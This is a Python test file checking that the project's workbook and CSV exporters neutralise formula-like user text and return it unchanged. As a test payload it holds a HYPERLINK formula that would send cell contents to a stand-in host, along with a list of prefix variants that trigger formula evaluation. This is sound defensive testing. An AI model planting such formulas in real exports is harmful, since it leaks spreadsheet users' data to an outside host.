"""Whatever people typed is text in every file that a spreadsheet opens, and comes back as it was typed."""

import ast
import csv
import io
import zipfile

import pytest
from python_calamine import CalamineWorkbook

from shared.documents.cells import evaluates, inert, uttered
from shared.documents.csvfiles import csv_file
from shared.documents.faultsheets import fault_sheet
from shared.documents.papers import Facts, Grid, Lines, Paper
from shared.documents.reports import ImportFault
from shared.documents.sheets import column, read_rows
from shared.documents.templates import workbook_template
from shared.documents.workbooks import workbook
from tests.architecture.source import ROOT

PLANTED = '=HYPERLINK("http://example.invalid/?"&A1,"点这里")'
DANGEROUS = (
    PLANTED,
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "－1",
    "＠SUM(A1)",
    "　=1",
    " =1",
    "\u200b=1",
    "\ufeff=1",
)


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_a_spreadsheet_may_run_is_known(text: str) -> None:
    assert evaluates(text)
    assert inert(text) == f"'{text}"
    assert uttered(inert(text)) == text


@pytest.mark.parametrize("text", ["", "2020-11-01", "1-2", "示例·医院", "a=b", "'quoted'", "（=1）"])
def test_other_text_is_left_alone(text: str) -> None:
    assert inert(text) == text == uttered(text)


def made() -> dict[str, bytes]:
    """Every maker of workbooks, with the planted text wherever text may stand."""
    grid = Grid((PLANTED,), [(PLANTED,)], (20,), total=(PLANTED,), caption=PLANTED)
    paper = Paper("列表", PLANTED, (Facts(((PLANTED, PLANTED),)), Lines((PLANTED,)), grid), PLANTED)
    columns = (column("name", PLANTED, "名称"),)
    sent = csv_file([("名称",), (PLANTED,)])
    return {
        "papers": workbook([paper]),
        "templates": workbook_template(columns, [{"name": PLANTED}], [PLANTED]),
        "faults": fault_sheet(sent, [ImportFault(row=2, column="名称", message=PLANTED)]),
    }


@pytest.mark.parametrize("maker", ["papers", "templates", "faults"])
def test_no_cell_of_a_workbook_is_a_formula_and_the_text_is_whole(maker: str) -> None:
    content = made()[maker]
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    cells = [
        cell for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python() for cell in row
    ]
    assert PLANTED in {str(cell).removesuffix("*") for cell in cells}
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert not any(b"<f>" in sheet or b"<f " in sheet or b"<hyperlink" in sheet for sheet in sheets)
        # Who edits such a cell and presses Enter has text still.
        assert b'quotePrefix="1"' in archive.read("xl/styles.xml")


def test_a_csv_comes_back_as_it_was_typed() -> None:
    content = csv_file([["名称", "说明"], *([text.strip(), "x"] for text in DANGEROUS)])
    shown = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert not [cell for row in shown for cell in row if evaluates(cell)]
    read = [row.cells[0] for row in read_rows(content)[1:]]
    assert read == [text.strip() for text in DANGEROUS]


def test_there_is_one_way_into_a_workbook_and_a_csv() -> None:
    """Whoever writes cells otherwise writes formulas sooner or later."""
    writers = {"xlsxwriter", "openpyxl", "pandas", "xlwt"}
    own = {"cells.py", "csvfiles.py"}
    strays = []
    for path in sorted(
        [*ROOT.glob("services/**/*.py"), *ROOT.glob("shared/**/*.py"), *ROOT.glob("deploy/**/*.py")]
    ):
        if path.parent.name == "documents" and path.name in own:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            imported = {alias.name for alias in node.names} if isinstance(node, ast.Import) else set()
            written = isinstance(node, ast.Attribute) and node.attr in {"write_string", "write_row"}
            writes = isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"}
            if imported & writers or written or writes:
                strays.append(f"{path.relative_to(ROOT)}:{getattr(node, 'lineno', 0)}")
    # The type of a workbook is named where sheets are laid out; nothing is written by it there.
    assert [one for one in strays if not one.startswith("shared/documents/workbooks.py")] == []
